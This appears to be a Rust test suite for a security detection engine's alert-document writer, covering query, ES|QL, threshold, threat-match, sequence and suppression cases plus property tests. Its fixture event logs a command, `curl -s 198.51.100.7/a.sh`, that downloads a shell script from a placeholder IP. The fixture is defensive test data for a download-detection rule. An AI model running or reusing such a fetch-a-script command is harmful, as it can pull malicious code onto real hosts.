//! Alert documents of each kind: a case gives the document(s) of
//! `alert_documents/CASE.json`, laid out for reading. `DETECT_BLESS=1` writes
//! the files anew.

use detect_runtime::alert::{
    Format, MappedSeverity, RuleInfo, RuleType, Severity, SuppressionInfo, Writer,
};
use detect_runtime::head::{Content, Draft, Indicator, Source, Suppression};
use detect_runtime::value::Owned;
use proptest::prelude::*;
use serde_json::Value as Json;
use std::fs;
use std::path::Path;
use std::sync::Arc;

/// 2026-03-04T10:15:07.412Z
const TIME: i64 = 1_772_619_307_412;

const INFO: RuleInfo = RuleInfo {
    id: "8d1c6c2e-0f5b-4b4e-8f11-3f6f2f1d9a70",
    uuid: "1f3d7f34-6d0e-5b8e-9a55-0d7a6e3b9c21",
    path: "linux/download.toml",
    name: "Download by Command-Line Client",
    rule_type: RuleType::Query,
    language: "kuery",
    severity: Severity::Medium,
    risk_score: 47,
    interval: 300_000,
    lookback: 540_000,
    index: &["logs-endpoint.events.process-*"],
    group_by: &[],
    columns: &[],
    cardinality: None,
    indicator_path: "threat.indicator",
    timestamp_override: Some("event.ingested"),
    max_signals: 100,
    building_block: false,
    deprecated: false,
    aggregating: false,
    severity_mapping: &[],
    risk_score_field: None,
    name_field: None,
    suppression: None,
    members: r#""kibana.alert.rule.rule_id":"8d1c6c2e-0f5b-4b4e-8f11-3f6f2f1d9a70""#,
    texts: r#""kibana.alert.rule.note":"Look at the parent.""#,
    meaning: 7,
    content: 8,
};

const NESTED: &str = r#"{"@timestamp":"2026-03-04T10:12:39.120Z","_id":"wN3k1Z0B","event":{"kind":"event","category":["process"],"type":["start"],"action":"exec","ingested":"2026-03-04T10:12:41Z","severity":47},"host":{"id":"h-17","name":"build-07","os":{"type":"linux"}},"user":{"id":"1001","name":"ada"},"process":{"pid":4120,"name":"curl","args":["curl","-s","198.51.100.7/a.sh"],"parent":{"name":"bash"}}}"#;

const FLAT: &str = r#"{"@timestamp":"2026-03-04T10:12:40.000Z","event.category":["network","process"],"event.action":"connect","host.id":"h-17","host.name":"build-07","user.name":"ada","process.name":"curl","process.args":["-s","curl"],"source.ip":"10.0.0.3","source.port":4411,"destination.ip":"198.51.100.7","destination.port":80,"message":"Odd connection","event.risk_score":88.5}"#;

fn source(line: &str) -> Arc<Source> {
    Arc::new(Source {
        line: line.as_bytes().into(),
        index: "logs-endpoint.events.process-default".into(),
    })
}

fn text(text: &str) -> Owned {
    Owned::Text(text.into())
}

fn draft(content: Content) -> Draft {
    Draft { time: TIME, content, suppression: None }
}

fn documents(info: &RuleInfo, draft: &Draft, format: Format) -> Vec<Json> {
    let mut documents = Vec::new();
    Writer::new(format).write(info, info.rating(), draft, &mut |written| {
        assert!(!written.json.contains('\n'));
        let document: Json = serde_json::from_str(written.json).expect("JSON");
        assert_eq!(document["kibana.alert.uuid"], written.uuid);
        documents.push(document);
    });
    documents
}

/// An alert over the nested event, as a source of another.
fn alert_line() -> String {
    documents(&INFO, &draft(Content::Event(source(NESTED))), Format::default())[0].to_string()
}

#[allow(clippy::too_many_lines, reason = "a table")]
fn cases() -> Vec<(&'static str, RuleInfo, Draft, Format)> {
    let plain = Format::default;
    vec![
        ("query_over_nested_event", INFO, draft(Content::Event(source(NESTED))), plain()),
        ("query_over_flat_event", INFO, draft(Content::Event(source(FLAT))), plain()),
        ("query_over_alert", INFO, draft(Content::Event(source(&alert_line()))), plain()),
        (
            "full_texts",
            INFO,
            draft(Content::Event(source(NESTED))),
            Format { full: true, space: "soc".into(), ..Format::default() },
        ),
        (
            "mapped_severity",
            RuleInfo {
                severity_mapping: &[
                    MappedSeverity { field: "event.severity", value: "21", severity: Severity::Low },
                    MappedSeverity { field: "event.severity", value: "47", severity: Severity::High },
                ],
                ..INFO
            },
            draft(Content::Event(source(NESTED))),
            plain(),
        ),
        (
            "mapped_risk_and_name",
            RuleInfo {
                risk_score_field: Some("event.risk_score"),
                name_field: Some("message"),
                building_block: true,
                ..INFO
            },
            draft(Content::Event(source(FLAT))),
            plain(),
        ),
        (
            "row_of_aggregation",
            RuleInfo {
                rule_type: RuleType::Esql,
                aggregating: true,
                columns: &["host.name", "process.executable", "Esql.event_count", "Esql.process_name_values", "user.name"],
                ..INFO
            },
            draft(Content::Row {
                columns: Box::new([
                    text("build-07"),
                    text("/usr/bin/curl"),
                    Owned::Long(42),
                    Owned::Multi(Box::new([text("curl"), text("wget")])),
                    Owned::Null,
                ]),
                source: None,
                window: (TIME - 540_000, TIME, 3),
            }),
            plain(),
        ),
        (
            "row_over_event",
            RuleInfo {
                rule_type: RuleType::Esql,
                columns: &["_id", "@timestamp", "process.pid", "process.name", "process.args", "Esql.score"],
                ..INFO
            },
            draft(Content::Row {
                columns: Box::new([
                    text("wN3k1Z0B"),
                    Owned::Date(TIME),
                    Owned::Long(4120),
                    text("CURL"),
                    text("-s"),
                    Owned::Double(0.5),
                ]),
                source: Some(source(NESTED)),
                window: (0, TIME, 0),
            }),
            plain(),
        ),
        (
            "threshold",
            RuleInfo {
                rule_type: RuleType::Threshold,
                columns: &["source.ip"],
                cardinality: Some("destination.port"),
                ..INFO
            },
            draft(Content::Threshold {
                terms: Box::new([text("203.0.113.9")]),
                count: 3120,
                cardinality: Some(251),
                span: (TIME - 300_000, TIME - 9_000),
            }),
            plain(),
        ),
        (
            "new_terms",
            RuleInfo { rule_type: RuleType::NewTerms, columns: &["user.name", "host.name"], ..INFO },
            draft(Content::NewTerms {
                event: source(NESTED),
                terms: Box::new([text("ada"), text("build-07")]),
            }),
            plain(),
        ),
        (
            "threat_match",
            RuleInfo { rule_type: RuleType::ThreatMatch, ..INFO },
            draft(Content::Threat {
                event: source(FLAT),
                matches: vec![
                    Indicator {
                        document: r#"{"_id":"ti-9","threat":{"indicator":{"ip":"198.51.100.7","type":"ipv4-addr"},"feed":{"name":"our-feed"}}}"#.into(),
                        field: "destination.ip",
                        value: "198.51.100.7".into(),
                        number: 4,
                        index: "logs-ti_x".into(),
                    },
                    Indicator {
                        document: r#"{"threat.indicator.ip":"198.51.100.7","threat.indicator.marking":["red","amber"]}"#.into(),
                        field: "destination.ip",
                        value: "198.51.100.7".into(),
                        number: 5,
                        index: "logs-ti_y".into(),
                    },
                ],
            }),
            plain(),
        ),
        (
            "sequence",
            RuleInfo { rule_type: RuleType::Eql, severity_mapping: &[], ..INFO },
            draft(Content::Sequence {
                events: vec![Some(source(NESTED)), None, Some(source(FLAT))],
                keys: Box::new([text("h-17")]),
            }),
            plain(),
        ),
        (
            "suppressed",
            RuleInfo {
                suppression: Some(SuppressionInfo {
                    group_by: &["user.email", "source.ip"],
                    duration: Some(3_600_000),
                    missing_is_value: true,
                }),
                ..INFO
            },
            Draft {
                suppression: Some(Suppression {
                    terms: Box::new([text("ada@example.org"), Owned::Null]),
                    span: (TIME - 60_000, TIME),
                    count: 2,
                }),
                ..draft(Content::Event(source(FLAT)))
            },
            plain(),
        ),
    ]
}

#[test]
fn documents_as_expected() {
    let folder = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/alert_documents"));
    let bless = std::env::var_os("DETECT_BLESS").is_some();
    for (name, info, draft, format) in cases() {
        let documents = documents(&info, &draft, format);
        let text = serde_json::to_string_pretty(&documents).expect("JSON") + "\n";
        let path = folder.join(format!("{name}.json"));
        if bless {
            fs::write(&path, &text).expect("a file to write");
        } else {
            assert_eq!(text, fs::read_to_string(&path).unwrap_or_default(), "{name}");
        }
    }
}

#[test]
fn ids_tell_causes_apart() {
    let id = |info: &RuleInfo, content: Content| {
        let all = documents(info, &draft(content), Format::default());
        all.last().expect("an alert")["kibana.alert.uuid"].as_str().expect("text").to_owned()
    };
    let event = |line: &str| Content::Event(source(line));
    let other = RuleInfo { uuid: "another", ..INFO };
    assert_eq!(id(&INFO, event(NESTED)), id(&INFO, event(NESTED)));
    assert_ne!(id(&INFO, event(NESTED)), id(&INFO, event(FLAT)));
    assert_ne!(id(&INFO, event(NESTED)), id(&other, event(NESTED)));
    let again = NESTED.replace("\"_id\"", "\"_version\":2,\"_id\"");
    assert_ne!(id(&INFO, event(NESTED)), id(&INFO, event(&again)));
    let row = |number| Content::Row { columns: Box::new([]), source: None, window: (1, 2, number) };
    assert_ne!(id(&INFO, row(0)), id(&INFO, row(1)));
}

/// JSON with names that alerts treat in a special way, also in odd places.
fn odd_event() -> impl Strategy<Value = Json> {
    let name = prop_oneof![
        prop::sample::select(vec![
            "event",
            "event.kind",
            "kind",
            "@timestamp",
            "_id",
            "kibana",
            "kibana.alert.uuid",
            "kibana.alert.depth",
            "kibana.alert.ancestors",
            "process",
            "name",
            "host.name",
            "category",
        ])
        .prop_map(str::to_owned),
        ".{0,4}",
    ];
    let leaf = prop_oneof![
        Just(Json::Null),
        any::<bool>().prop_map(Json::from),
        any::<f64>().prop_map(Json::from),
        any::<i64>().prop_map(Json::from),
        ".{0,6}".prop_map(Json::from),
    ];
    let value = leaf.prop_recursive(3, 24, 4, move |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4).prop_map(Json::from),
            prop::collection::vec((name.clone(), inner), 0..5)
                .prop_map(|members| Json::Object(members.into_iter().collect())),
        ]
    });
    prop::collection::vec(value, 1..4).prop_map(|mut all| {
        all.retain(Json::is_object);
        all.pop().unwrap_or_else(|| Json::Object(serde_json::Map::new()))
    })
}

proptest! {
    #[test]
    fn odd_events_give_alerts(events in prop::collection::vec(odd_event(), 1..4), column in ".{0,5}") {
        let sources: Vec<Arc<Source>> = events.iter().map(|event| source(&event.to_string())).collect();
        let info = RuleInfo {
            columns: &["event.kind", "process.name"],
            severity_mapping: &[MappedSeverity { field: "event.kind", value: "1", severity: Severity::Low }],
            risk_score_field: Some("process"),
            name_field: Some("kind"),
            ..INFO
        };
        let contents = [
            Content::Event(sources[0].clone()),
            Content::Row {
                columns: Box::new([text(&column), Owned::Long(1)]),
                source: Some(sources[0].clone()),
                window: (0, 1, 0),
            },
            Content::Sequence { events: sources.into_iter().map(Some).collect(), keys: Box::new([]) },
        ];
        for content in contents {
            prop_assert!(!documents(&info, &draft(content), Format::default()).is_empty());
        }
    }

    #[test]
    fn any_line_gives_an_alert(line in ".{0,40}") {
        prop_assert_eq!(documents(&INFO, &draft(Content::Event(source(&line))), Format::default()).len(), 1);
    }
}
